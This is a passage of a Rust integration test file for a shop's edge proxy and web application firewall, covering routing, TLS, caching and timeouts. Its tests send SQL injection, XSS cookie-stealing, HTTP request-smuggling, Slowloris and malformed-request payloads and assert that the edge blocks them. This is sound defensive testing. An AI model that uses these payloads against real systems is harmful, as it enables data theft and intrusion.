        "{SITE}\n[waf]\nbefore_crs = [\"{}\"]\nafter_crs = [\"{}\"]\n\n{}",
        custom.display(),
        exclusions.display(),
        pools(&[("main", "/", &[&main], &[])])
    ))
    .await;
    let get = |query: &str| status_of(client().get(format!("{}/api/v1/catalog/products?{query}", edge.public)));
    assert_eq!(get("coupon=FREEPOLA").await.0, 403);
    assert_eq!(get("comment=1%27%20OR%20%271%27%3D%271").await.0, 403);
    assert!(
        edge.log().contains("10001"),
        "{}",
        edge.log().lines().rev().take(3).collect::<Vec<_>>().join("\n")
    );

    std::fs::write(
        &custom,
        "SecRule ARGS:coupon \"@streq FREE2\" \"id:10002,phase:2,deny,status:403,log,msg:'no free coupons'\"\n",
    )
    .expect("written");
    std::fs::write(&exclusions, "SecRuleUpdateTargetByTag \"attack-sqli\" \"!ARGS:comment\"\n").expect("written");
    let reloaded = client()
        .post(format!("{}/waf/reload", edge.admin))
        .send()
        .await
        .expect("reloaded");
    assert_eq!(reloaded.status(), 200);
    assert_eq!(get("coupon=FREEPOLA").await.0, 200);
    assert_eq!(get("coupon=FREE2").await.0, 403);
    assert_eq!(
        get("comment=1%27%20OR%20%271%27%3D%271").await.0,
        200,
        "excluded for this argument"
    );
    assert_eq!(get("q=1%27%20OR%20%271%27%3D%271").await.0, 403, "but not for others");

    std::fs::write(&custom, "SecRule this is not a rule\n").expect("written");
    let refused = client()
        .post(format!("{}/waf/reload", edge.admin))
        .send()
        .await
        .expect("answered");
    assert_eq!(refused.status(), 422);
    assert_eq!(get("coupon=FREE2").await.0, 403, "a broken file leaves the old rules");
    let _ = std::fs::remove_dir_all(rules);
}

/// `pola` (the services), built beside this test by the workspace's test run.
fn pola_binary() -> PathBuf {
    let binary = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/debug/pola");
    assert!(
        binary.exists(),
        "{} is missing: build it first (make test does: cargo build -p pola)",
        binary.display()
    );
    binary
}

/// A real `pola serve` with its own databases, migrated, with a demo shop and a demo admin
/// (`admin@pola.lk`, `ADMIN_PASSWORD`, also written to `var/demo-admin.txt` in `dir`).
struct PolaServe {
    child: Option<Child>,
    port: u16,
    dir: PathBuf,
    env: Vec<(String, String)>,
    _databases: pola_core::testing::TestDatabases,
}

const ADMIN_PASSWORD: &str = "staff-passphrase-77";

impl PolaServe {
    /// With a cheap password hash, so that the test's sign-ins are quick.
    async fn start(products: u32) -> Self {
        Self::start_with(
            products,
            &[("POLA_AUTH__ARGON2_MEMORY_KIB", "64"), ("POLA_AUTH__ARGON2_ITERATIONS", "1")],
        )
        .await
    }

    async fn start_with(products: u32, extra: &[(&str, &str)]) -> Self {
        let databases = pola_core::testing::TestDatabases::new();
        let dir = std::env::temp_dir().join(format!("pola-edge-shop-{}", uuid::Uuid::now_v7().simple()));
        std::fs::create_dir_all(dir.join("var")).expect("a folder");
        let port = pola_core::testing::free_port();
        let mut env = vec![
            ("POLA_DATABASE__URL".to_owned(), pola_core::testing::test_server_url()),
            ("POLA_DATABASE__PREFIX".to_owned(), databases.config.prefix.clone()),
            (
                "POLA_AUTH__SIGNING_KEY_FILE".to_owned(),
                dir.join("key.pem").display().to_string(),
            ),
            ("POLA_PII__KEYRING_DIR".to_owned(), dir.join("pii").display().to_string()),
            ("POLA_HTTP__ADDR".to_owned(), format!("127.0.0.1:{port}")),
            // The admin `pola staff create` makes has no authenticator app; two-factor sign-in
            // is the API tests' and the back-office's business, routing is this file's.
            ("POLA_AUTH__STAFF_TOTP_REQUIRED".to_owned(), "false".to_owned()),
        ];
        env.extend(extra.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())));
        let mut pola = Self {
            child: None,
            port,
            dir,
            env,
            _databases: databases,
        };
        pola.run(&["migrate"], &[]);
        pola.run(&["seed", "--demo", "--products", &products.to_string()], &[]);
        pola.run(
            &["staff", "create", "--email", "admin@pola.lk", "--role", "admin"],
            &[("POLA_STAFF_PASSWORD", ADMIN_PASSWORD)],
        );
        std::fs::write(
            pola.dir.join("var/demo-admin.txt"),
            format!("email: admin@pola.lk\npassword: {ADMIN_PASSWORD}\n"),
        )
        .expect("written");
        pola.restart().await;
        pola
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(pola_binary());
        command.args(args).envs(self.env.iter().map(|(k, v)| (k, v)));
        command
    }

    fn run(&self, args: &[&str], extra: &[(&str, &str)]) {
        let output = self.command(args).envs(extra.iter().copied()).output().expect("pola runs");
        assert!(
            output.status.success(),
            "pola {args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    /// Starts `pola serve` and waits until it is ready.
    async fn restart(&mut self) {
        let log = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(self.dir.join("pola.log"))
            .expect("a log");
        let child = self
            .command(&["serve"])
            .stdout(log.try_clone().expect("a handle"))
            .stderr(log)
            .spawn()
            .expect("pola serve");
        self.child = Some(child);
        let ready = format!("{}/readyz", self.url());
        let deadline = Instant::now() + Duration::from_secs(60);
        while !client().get(&ready).send().await.is_ok_and(|r| r.status() == 200) {
            assert!(Instant::now() < deadline, "pola serve did not become ready");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    /// SIGKILL: the process dies with whatever it had in flight; its database is untouched.
    fn kill(&mut self) {
        if let Some(mut child) = self.child.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }

    fn pid(&self) -> u32 {
        self.child.as_ref().expect("running").id()
    }

    /// An edge in front of it, with the shop's own allow-list on the public listener.
    async fn edge(&self) -> EdgeProcess {
        self.edge_on(pola_core::testing::free_port()).await
    }

    async fn edge_on(&self, public: u16) -> EdgeProcess {
        EdgeProcess::start_on(
            &format!(
                "{SHOP_SITE}\n[staff]\nvpn_ranges = [\"127.0.0.0/8\"]\n\n[[pools]]\nname = \"pola\"\nprefixes = [\"/\"]\ndc = [\"127.0.0.1:{}\"]\n",
                self.port
            ),
            public,
        ).await
    }
}

impl Drop for PolaServe {
    fn drop(&mut self) {
        if let Some(mut child) = self.child.take() {
            let _ = Command::new("kill").args(["-INT", &child.id().to_string()]).status();
            let _ = child.wait();
        }
        if std::thread::panicking() {
            let log = std::fs::read_to_string(self.dir.join("pola.log")).unwrap_or_default();
            eprintln!(
                "pola serve's log:\n{}",
                log.lines().rev().take(20).collect::<Vec<_>>().join("\n")
            );
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

#[tokio::test]
async fn the_readme_tour_and_the_staff_tour_pass_through_the_edge_and_its_waf_with_no_false_positive() {
    // The tour pays with PayHere: payhere-sim's checkout page posts its signed notification to
    // the shop through the edge, as PayHere would.
    let sim = pola_payments::testing::Simulator::started("1221149", "pola-edge-tour-secret").await;
    let public = pola_core::testing::free_port();
    let shop = format!("http://127.0.0.1:{public}");
    let (checkout, notify, back) = (
        sim.checkout_url(),
        format!("{shop}/api/v1/payments/payhere/notify"),
        format!("{shop}/account/orders/{{order_id}}"),
    );
    let pola = PolaServe::start_with(
        300,
        &[
            ("POLA_AUTH__ARGON2_MEMORY_KIB", "64"),
            ("POLA_AUTH__ARGON2_ITERATIONS", "1"),
            ("POLA_PAYMENTS__PAYHERE__MERCHANT_ID", "1221149"),
            ("POLA_PAYMENTS__PAYHERE__MERCHANT_SECRET", "pola-edge-tour-secret"),
            ("POLA_PAYMENTS__PAYHERE__CHECKOUT_URL", &checkout),
            ("POLA_PAYMENTS__PAYHERE__NOTIFY_URL", &notify),
            ("POLA_PAYMENTS__PAYHERE__RETURN_URL", &back),
            ("POLA_PAYMENTS__PAYHERE__CANCEL_URL", &back),
        ],
    )
    .await;
    let edge = pola.edge_on(public).await;
    let script = format!(
        "{}\n{}",
        pola_core::testing::readme_block("## A five-minute tour"),
        pola_core::testing::readme_block("The staff API is only on the edge's staff listener")
    )
    .replace("API=http://127.0.0.1:8080", &format!("API={}", edge.public))
    .replace("STAFF_API=http://127.0.0.1:8081", &format!("STAFF_API={}", edge.staff));
    let dir = pola.dir.clone();
    let output = tokio::task::spawn_blocking(move || {
        Command::new("bash")
            .args(["-euo", "pipefail", "-c", &script])
            .current_dir(&dir)
            .output()
    })
    .await
    .expect("ran")
    .expect("bash runs");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let edge_log = edge.log();
    let blocked: Vec<&str> = edge_log.lines().filter(|l| l.contains("\"target\":\"waf\"")).collect();
    assert!(
        output.status.success(),
        "the tour through the edge failed:\n{stdout}\n{}\n{blocked:?}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        stdout.contains("\"pending_payment\"") && stdout.contains("+94771234567"),
        "{stdout}"
    );
    assert!(stdout.contains("\"order_status\": \"paid\""), "paid with PayHere: {stdout}");
    assert!(
        stdout.contains("{\"status\":\"delivered\",\"shipment\":{\"courier\":\"manual\",\"waybill\":\"DX1234567\""),
        "packed, shipped, delivered by staff: {stdout}"
    );
    assert!(blocked.is_empty(), "WAF matches on the shop's own traffic: {blocked:#?}");
}

/// The same security headers on every answer, whoever made it.
fn assert_security_headers(what: &str, headers: &reqwest::header::HeaderMap) {
    for (name, value) in [
        ("x-content-type-options", "nosniff"),
        ("x-frame-options", "DENY"),
        ("referrer-policy", "no-referrer"),
    ] {
        assert_eq!(headers.get(name).and_then(|v| v.to_str().ok()), Some(value), "{what}: {name}");
    }
}

/// Whether the app's handler took the request (any answer but a refusal of the route or the
/// token): a wrong id or an empty body still counts, since the handler judged them.
/// A back-office session of the demo admin (who has no authenticator yet: an enrolling one).
async fn sign_in_session(http: &reqwest::Client, staff: &str) -> String {
    let started: Value = http
        .post(format!("{staff}/api/v1/identity/staff/sessions"))
        .json(&json!({"email": "admin@pola.lk", "password": ADMIN_PASSWORD}))
        .send()
        .await
        .expect("an answer")
        .json()
        .await
        .expect("a session");
    started["session"].as_str().expect("a session id").to_owned()
}

fn served(status: u16, body: &Value) -> bool {
    let refused_route = status == 404 && ["No such page.", "No such endpoint."].contains(&body["detail"].as_str().unwrap_or(""));
    !refused_route && ![401, 403, 405].contains(&status)
}

#[tokio::test]
async fn every_staff_route_of_the_openapi_description_is_404_on_the_public_listener_and_served_on_the_staff_listener() {
    let pola = PolaServe::start(20).await;
    let edge = pola.edge().await;
    let http = client();
    let sign_in = |base: &str, path: &str, username: &str, password: &str| {
        http.post(format!("{base}{path}"))
            .json(&json!({"grant_type": "password", "username": username, "password": password}))
            .send()
    };
    // Staff sign in on the staff listener only.
    let refused = sign_in(&edge.public, "/api/v1/identity/staff/token", "admin@pola.lk", ADMIN_PASSWORD)
        .await
        .expect("an answer");
    assert_eq!(refused.status(), 404, "staff sign-in is not on the public listener");
    let staff = sign_in(&edge.staff, "/api/v1/identity/staff/token", "admin@pola.lk", ADMIN_PASSWORD)
        .await
        .expect("an answer");
    assert_eq!(staff.status(), 200);
    assert_eq!(staff.headers()["cache-control"], "no-store", "tokens are never stored");
    let staff = staff.json::<Value>().await.expect("tokens")["access_token"]
        .as_str()
        .expect("a token")
        .to_owned();
    let email = format!("walker-{}@example.lk", uuid::Uuid::now_v7().simple());
    let registered = http
        .post(format!("{}/api/v1/identity/register", edge.public))
        .json(&json!({"email": email, "password": "a long passphrase", "name": "Walker"}))
        .send()
        .await
        .expect("an answer");
    assert_eq!(registered.status(), 201);
    let customer = sign_in(&edge.public, "/api/v1/identity/token", &email, "a long passphrase")
        .await
        .expect("an answer");
    assert_eq!(customer.headers()["cache-control"], "no-store");
    let customer = customer.json::<Value>().await.expect("tokens")["access_token"]
        .as_str()
        .expect("a token")
        .to_owned();

    let openapi: Value = http
        .get(format!("{}/api/v1/openapi.json", edge.public))
        .send()
        .await
        .expect("an answer")
        .json()
        .await
        .expect("the OpenAPI description");
    let (mut staff_routes, mut customer_routes) = (0, 0);
    for (path, operations) in openapi["paths"].as_object().expect("paths") {
        let path = path.replace("{id}", &uuid::Uuid::now_v7().to_string());
        for (method, operation) in operations.as_object().expect("operations") {
            let method = reqwest::Method::from_bytes(method.to_uppercase().as_bytes()).expect("a method");
            let staff_only = operation["tags"].as_array().expect("tags").contains(&json!("staff"));
            // The back-office's session routes take a session, not a token: a fresh one each.
            let session = match path.contains("/staff/sessions/current") {
                true => sign_in_session(&http, &edge.staff).await,
                false => String::new(),
            };
            let send = |base: &str, token: &str| {
                let request = http.request(method.clone(), format!("{base}{path}")).bearer_auth(token);
                let request = match session.is_empty() {
                    true => request,
                    false => request.header("x-staff-session", &session),
                };
                let request = if method == reqwest::Method::GET {
                    request
                } else {
                    request.json(&json!({}))
                };
                async move {
                    let response = request.send().await.expect("an answer");
                    let (status, headers) = (response.status().as_u16(), response.headers().clone());
                    (status, headers, response.json::<Value>().await.unwrap_or(Value::Null))
                }
            };
            let what = format!("{method} {path}");
            if staff_only {
                staff_routes += 1;
                let (status, headers, body) = send(&edge.public, &staff).await;
                assert_eq!(
                    (status, &body["detail"]),
                    (404, &json!("No such page.")),
                    "{what} on the public listener"
                );
                assert_security_headers(&what, &headers);
                let (status, headers, body) = send(&edge.staff, &staff).await;
                assert!(served(status, &body), "{what} on the staff listener: {status} {body}");
                assert_security_headers(&what, &headers);
            } else {
                customer_routes += 1;
                let (status, headers, body) = send(&edge.public, &customer).await;
                assert!(served(status, &body), "{what} on the public listener: {status} {body}");
                assert_security_headers(&what, &headers);
            }
        }
    }
    assert!(
        staff_routes >= 14 && customer_routes >= 20,
        "{staff_routes} staff and {customer_routes} customer routes"
    );

    // The services' probes and metrics are on neither listener (the edge's admin listener
    // has its own).
    for base in [&edge.public, &edge.staff] {
        for path in ["/metrics", "/readyz", "/healthz"] {
            let (status, headers, _) = get(&format!("{base}{path}")).await;
            assert_eq!(status, 404, "{base}{path}");
            assert_security_headers(path, &headers);
        }
    }
}

#[tokio::test]
async fn with_a_certificate_the_listeners_speak_https_and_http2_plain_http_is_redirected_and_hsts_is_sent() {
    let (main, slow) = (Upstream::start("main"), Upstream::slow("slow", Duration::from_millis(900)));
    let dir = std::env::temp_dir().join(format!("pola-edge-tls-{}", uuid::Uuid::now_v7().simple()));
    std::fs::create_dir_all(&dir).expect("a folder");
    let (cert, key, ca) = (dir.join("cert.pem"), dir.join("key.pem"), dir.join("ca.pem"));
    std::fs::write(
        dir.join("leaf.ext"),
        "subjectAltName=DNS:localhost\nbasicConstraints=CA:FALSE\n",
    )
    .expect("written");
    // A test CA, and a certificate for localhost signed by it.
    for args in [
        "req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=PolaTestCA -keyout ca.key -out ca.pem",
        "req -newkey rsa:2048 -nodes -subj /CN=localhost -keyout key.pem -out leaf.csr",
        "x509 -req -in leaf.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 1 -extfile leaf.ext -out cert.pem",
    ] {
        let made = Command::new("openssl")
            .args(args.split(' '))
            .current_dir(&dir)
            .output()
            .expect("openssl runs");
        assert!(
            made.status.success(),
            "openssl {args}: {}",
            String::from_utf8_lossy(&made.stderr)
        );
    }
    let redirect = pola_core::testing::free_port();
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n[tls]\ncert = \"{}\"\nkey = \"{}\"\nredirect_from = \"127.0.0.1:{redirect}\"\n\n\
         [limits]\nheader_read_timeout_ms = 300\n\n{}",
        cert.display(),
        key.display(),
        pools(&[("main", "/", &[&main], &[]), ("slow", "/api/v1/slow", &[&slow], &[])])
    ))
    .await;
    let port = edge.public.rsplit(':').next().expect("a port").to_owned();
    pola_core::install_crypto_provider();
    let client = reqwest::Client::builder()
        .add_root_certificate(reqwest::Certificate::from_pem(&std::fs::read(&ca).expect("the CA")).expect("a cert"))
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("a client");

    let response = client
        .get(format!("https://localhost:{port}/api/v1/catalog/products"))
        .send()
        .await
        .expect("an HTTPS answer");
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["strict-transport-security"],
        "max-age=31536000; includeSubDomains"
    );
    assert_eq!(response.version(), reqwest::Version::HTTP_2, "ALPN chose h2");
    let body: Value = response.json().await.expect("json");
    assert_eq!(body["upstream"], "main");
    assert_eq!(body["headers"]["host"], format!("localhost:{port}"), "Host from :authority");
    assert_eq!(body["headers"]["x-forwarded-proto"], "https");

    // What a GET of `path` is answered with, and over which protocol.
    let answer = async |client: &reqwest::Client, path: &str| {
        let response = client
            .get(format!("https://localhost:{port}{path}"))
            .send()
            .await
            .unwrap_or_else(|e| panic!("{path}: {e}"));
        (response.status().as_u16(), response.version())
    };
    let h2 = reqwest::Version::HTTP_2;
    // Many requests at once on the one connection, the WAF judging each as over HTTP/1.1.
    let pages: Vec<String> = (0..20).map(|i| format!("/api/v1/catalog/products?page={i}")).collect();
    let many = futures_util::future::join_all(pages.iter().map(|page| answer(&client, page))).await;
    assert!(many.iter().all(|a| *a == (200, h2)), "{many:?}");
    let sql_injection = "/api/v1/catalog/products?q=1%27%20UNION%20SELECT%20password%20FROM%20customers--";
    assert_eq!(answer(&client, sql_injection).await, (403, h2));
    // An h2 answer slower than the header clock (300 ms here) still arrives: h2 connections are
    // not on the clock, which looks for the blank line h1 headers end with.
    assert_eq!(answer(&client, "/api/v1/slow").await, (200, h2));
    let metrics = edge.metrics().await;
    assert!(!metrics.contains("edge_header_timeouts_total"), "{metrics}");
    // HTTP/1.1 clients are still served on the same listener.
    let h1 = reqwest::Client::builder()
        .add_root_certificate(reqwest::Certificate::from_pem(&std::fs::read(&ca).expect("the CA")).expect("a cert"))
        .http1_only()
        .build()
        .expect("a client");
    assert_eq!(
        answer(&h1, "/api/v1/catalog/products").await,
        (200, reqwest::Version::HTTP_11)
    );

    let moved = client
        .get(format!("http://localhost:{redirect}/api/v1/catalog/products?q=tea"))
        .send()
        .await
        .expect("an answer");
    assert_eq!(moved.status(), 301);
    assert_eq!(
        moved.headers()["location"],
        format!("https://localhost:{port}/api/v1/catalog/products?q=tea")
    );
    assert!(
        client.get(format!("http://localhost:{port}/")).send().await.is_err(),
        "no plain HTTP on the TLS port"
    );
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test]
async fn least_connections_sends_most_requests_to_the_member_that_keeps_up() {
    let (slow, fast) = (Upstream::slow("slow", Duration::from_millis(100)), Upstream::start("fast"));
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n{UNLIMITED}\n{}balance = \"least_connections\"\n",
        pools(&[("main", "/", &[&slow, &fast], &[])])
    ))
    .await;
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let load = tokio::spawn(steady(format!("{}/api/v1/steady", edge.public), stop.clone()));
    tokio::time::sleep(Duration::from_millis(1500)).await;
    stop.store(true, Ordering::Relaxed);
    let (ok, failed, seen) = load.await.expect("the load ran");
    assert_eq!(failed, 0);
    let fast_share = seen.get("fast").copied().unwrap_or(0) as f64 / ok as f64;
    // Round robin would give each half; the slow member holds its requests longer.
    assert!(fast_share > 0.8, "the fast member took {fast_share:.2} of {ok}: {seen:?}");
}

#[tokio::test]
async fn a_client_that_stalls_in_its_body_is_cut_off_with_408() {
    let main = Upstream::start("main");
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n[limits]\nbody_read_timeout_ms = 300\n\n{}",
        pools(&[("main", "/", &[&main], &[])])
    ))
    .await;
    let addr = edge.public.trim_start_matches("http://").to_owned();
    let answer = tokio::task::spawn_blocking(move || {
        use std::io::{Read, Write};
        let mut stream = std::net::TcpStream::connect(&addr).expect("a connection");
        stream.set_read_timeout(Some(Duration::from_secs(10))).expect("a timeout");
        stream
            .write_all(b"POST /api/v1/orders HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"lines\":")
            .expect("sent");
        // ... and nothing more.
        let mut answer = vec![0u8; 4096];
        let read = stream.read(&mut answer).unwrap_or(0);
        String::from_utf8_lossy(&answer[..read]).into_owned()
    })
    .await
    .expect("ran");
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert_eq!(main.seen.load(Ordering::Relaxed), 0);
}

#[tokio::test]
async fn a_client_that_dribbles_its_headers_is_disconnected_and_an_idle_keep_alive_is_not() {
    use std::io::{BufRead, BufReader, Read, Write};
    let main = Upstream::start("main");
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n[limits]\nheader_read_timeout_ms = 800\n\n{}",
        pools(&[("main", "/", &[&main], &[])])
    ))
    .await;
    let addr = edge.public.trim_start_matches("http://").to_owned();
    let dribbled = addr.clone();
    // Slowloris: a header line every 100 ms, each read well inside Pingora's own per-read limit.
    let lines_sent = tokio::task::spawn_blocking(move || {
        let mut stream = std::net::TcpStream::connect(&dribbled).expect("a connection");
        stream
            .write_all(b"GET /api/v1/slow HTTP/1.1\r\nHost: localhost\r\n")
            .expect("sent");
        let mut sent = 0;
        for _ in 0..100 {
            std::thread::sleep(Duration::from_millis(100));
            if stream.write_all(b"X-Dribble: a\r\n").is_err() {
                break;
            }
            sent += 1;
        }
        sent
    })
    .await
    .expect("ran");
    assert!(lines_sent < 100, "the edge never closed the connection");
    assert!(edge.wait_for_log("did not arrive in time").await);

    // A kept-alive connection idle for longer than the header timeout still serves the next
    // request: the clock starts at a request's first byte.
    let answers = tokio::task::spawn_blocking(move || {
        let stream = std::net::TcpStream::connect(&addr).expect("a connection");
        stream.set_read_timeout(Some(Duration::from_secs(10))).expect("a timeout");
        let mut reader = BufReader::new(stream.try_clone().expect("a handle"));
        let mut writer = stream;
        let mut statuses = vec![];
        for pause in [0, 1500] {
            std::thread::sleep(Duration::from_millis(pause));
            writer
                .write_all(b"GET /api/v1/kept HTTP/1.1\r\nHost: localhost\r\n\r\n")
                .expect("sent");
            let mut status = String::new();
            reader.read_line(&mut status).expect("a status line");
            let mut length = 0;
            loop {
                let mut line = String::new();
                reader.read_line(&mut line).expect("a header");
                if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    length = value.trim().parse().expect("a length");
                }
                if line == "\r\n" {
                    break;
                }
            }
            let mut body = vec![0; length];
            reader.read_exact(&mut body).expect("the body");
            statuses.push(status.trim().to_owned());
        }
        statuses
    })
    .await
    .expect("ran");
    assert_eq!(answers, ["HTTP/1.1 200 OK", "HTTP/1.1 200 OK"]);
    assert_eq!(
        main.seen.load(Ordering::Relaxed),
        2,
        "the dribbled request never went upstream"
    );
}

#[tokio::test]
async fn anonymous_catalogue_reads_are_served_from_the_micro_cache_for_its_ttl() {
    let main = Upstream::slow("main", Duration::from_millis(300));
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n{UNLIMITED}\n[staff]\nvpn_ranges = [\"127.0.0.0/8\"]\n\n[cache]\nttl_ms = 1500\n\n{}",
        pools(&[("main", "/", &[&main], &[])])
    ))
    .await;
    let seen = || main.seen.load(Ordering::Relaxed);
    let page = format!("{}/api/v1/catalog/products?limit=3", edge.public);

    // A spike of 40 readers of a page nobody has read yet: one request goes upstream, the rest
    // wait for its answer.
    let spike: Vec<_> = (0..40)
        .map(|_| {
            let page = page.clone();
            tokio::spawn(async move { get(&page).await })
        })
        .collect();
    let mut ids = std::collections::HashSet::new();
    for reader in spike {
        let (status, headers, body) = reader.await.expect("a reader");
        assert_eq!((status, &body["upstream"]), (200, &json!("main")));
        ids.insert(headers["x-request-id"].to_str().expect("an id").to_owned());
    }
    assert_eq!(seen(), 1, "one upstream request for 40 readers");
    assert_eq!(ids.len(), 40, "every answer, cached or not, has its own request id");
    let (_, headers, _) = get(&page).await;
    assert_eq!(headers["x-cache"], "hit");
    assert_eq!(seen(), 1);

    // What is never cached: signed-in or cookie-carrying readers, other paths, the staff
    // listener, and answers whose Cache-Control forbids it.
    let before = seen();
    for _ in 0..2 {
        let signed_in = client().get(&page).bearer_auth("a-token").send().await.expect("an answer");
        assert!(signed_in.headers().get("x-cache").is_none());
        client()
            .get(&page)
            .header("cookie", "cart=1")
            .send()
            .await
            .expect("an answer");
        get(&format!("{}/api/v1/cart", edge.public)).await;
        get(&format!("{}/api/v1/catalog/products?limit=3", edge.staff)).await;
        get(&format!("{}/api/v1/catalog/products?cache-control=no-store", edge.public)).await;
        get(&format!(
            "{}/api/v1/catalog/products?cache-control=private,%20max-age=60",
            edge.public
        ))
        .await;
    }
    assert_eq!(seen() - before, 12, "each of those went upstream");

    // The firewall still judges a request whose answer is cached.
    let (status, _) = status_of(
        client()
            .get(&page)
            .header("user-agent", "<script>alert(document.cookie)</script>"),
    )
    .await;
    assert_eq!(status, 403);

    // After the TTL the page is fetched again, once.
    let before = seen();
    tokio::time::sleep(Duration::from_millis(1600)).await;
    let (_, headers, _) = get(&page).await;
    assert_ne!(headers["x-cache"], "hit");
    get(&page).await;
    assert_eq!(seen() - before, 1);
    // An upstream's shorter max-age wins over the edge's TTL.
    let short = format!("{}/api/v1/catalog/products?cache-control=max-age=1", edge.public);
    get(&short).await;
    let (_, headers, _) = get(&short).await;
    assert_eq!(headers["x-cache"], "hit");
    let metrics = edge.metrics().await;
    assert!(metrics.contains("edge_cache_lookups_total{result=\"hit\"}"), "{metrics}");
}

/// Pingora's parser answers 400 to what breaks HTTP/1.1's framing and syntax (written as a
/// problem, like every refusal); the CRS refuses the rest (NUL bytes, bodies on GETs) with 403.
#[tokio::test]
async fn requests_that_break_the_protocol_are_refused_before_an_upstream_sees_them() {
    let main = Upstream::start("main");
    let edge = EdgeProcess::start(&format!("{SITE}\n{}", pools(&[("main", "/", &[&main], &[])]))).await;
    let addr = edge.public.trim_start_matches("http://").to_owned();
    // The answer; with `whole`, everything until the edge closes the connection.
    let exchange = |bytes: &'static [u8], whole: bool| {
        let addr = addr.clone();
        tokio::task::spawn_blocking(move || {
            use std::io::{Read, Write};
            let mut stream = std::net::TcpStream::connect(&addr).expect("a connection");
            stream.set_read_timeout(Some(Duration::from_secs(10))).expect("a timeout");
            stream.write_all(bytes).expect("sent");
            let mut answer = vec![0u8; 4096];
            let read = match whole {
                true => {
                    answer.clear();
                    stream.read_to_end(&mut answer).unwrap_or(0)
                }
                false => stream.read(&mut answer).unwrap_or(0),
            };
            String::from_utf8_lossy(&answer[..read]).into_owned()
        })
    };
    // Smuggling: Pingora frames the body by Transfer-Encoding alone and closes the connection
    // after answering (RFC 9112 §6.1), so what hides after the chunked body is never a request.
    let answer = exchange(b"POST /api/v1/orders HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n", true)
        .await
        .expect("ran");
    assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "{answer}");
    assert!(!answer.contains("/admin"), "{answer}");
    let smuggler = main.seen.load(Ordering::Relaxed);

    let probes: [(&str, &'static [u8]); 9] = [
        (
            "two different Content-Lengths",
            b"POST /api/v1/orders HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\nabcd",
        ),
        (
            "a Content-Length that is not a number",
            b"POST /api/v1/orders HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4x\r\n\r\nabcd",
        ),
        (
            "a NUL byte in the path",
            b"GET /api/v1/catalog/products%00.json HTTP/1.1\r\nHost: localhost\r\n\r\n",
        ),
        (
            "an unknown HTTP version",
            b"GET /api/v1/catalog/products HTTP/3.7\r\nHost: localhost\r\n\r\n",
        ),
        (
            "a GET with a body",
            b"GET /api/v1/catalog/products HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n\r\nhello",
        ),
        (
            "a control character in a header",
            b"GET /api/v1/catalog/products HTTP/1.1\r\nHost: localhost\r\nX-Note: a\x01b\r\n\r\n",
        ),
        (
            "a header folded over two lines",
            b"GET /api/v1/catalog/products HTTP/1.1\r\nHost: localhost\r\nX-Note: a\r\n b\r\n\r\n",
        ),
        (
            "a space before the colon",
            b"GET /api/v1/catalog/products HTTP/1.1\r\nHost: localhost\r\nX-Note : a\r\n\r\n",
        ),
        (
            "a transfer coding other than chunked",
            b"POST /api/v1/orders HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: identity\r\n\r\nabcd",
        ),
    ];
    for (what, bytes) in probes {
        let answer = exchange(bytes, false).await.expect("ran");
        let status = answer.split(' ').nth(1).unwrap_or("closed");
        println!("{what}: {status}");
        assert!(
            answer.is_empty() || answer.starts_with("HTTP/1.1 400") || answer.starts_with("HTTP/1.1 403"),
            "{what}: {answer}"
        );
        // Pingora's own refusals too are problems, with the id to quote.
        if !answer.is_empty() {
            let lower = answer.to_ascii_lowercase();
            assert!(lower.contains("content-type: application/problem+json"), "{what}: {answer}");
            assert!(
                lower.contains("x-request-id: ") && answer.contains("\"request_id\""),
                "{what}: {answer}"
            );
            assert!(!lower.contains("server: pingora"), "{what}: {answer}");
        }
    }
    assert_eq!(main.seen.load(Ordering::Relaxed), smuggler, "no probe reached the upstream");
}

/// Multipart bodies that ModSecurity's strict multipart check refuses (rules 200003 and 200004
/// of its recommended configuration, as nginx + ModSecurity runs them) are refused before an
/// upstream sees them; a well-formed upload passes.
#[tokio::test]
async fn multipart_bodies_that_fail_strict_validation_are_refused() {
    let main = Upstream::start("main");
    let edge = EdgeProcess::start(&format!("{SITE}\n{}", pools(&[("main", "/", &[&main], &[])]))).await;
    let url = format!("{}/api/v1/support/tickets", edge.public);
    let send = |content_type: &'static str, body: &'static str| {
        let request = client().post(&url).header("content-type", content_type).body(body);
        async move { request.send().await.expect("an answer") }
    };
    let form = "multipart/form-data; boundary=XyZ";
    let good = "--XyZ\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nBlue batik\r\n--XyZ--\r\n";
    assert_eq!(send(form, good).await.status(), 200, "a well-formed form passes");
    let seen = main.seen.load(Ordering::Relaxed);
    let refused = [
        (
            "data before the first boundary",
            form,
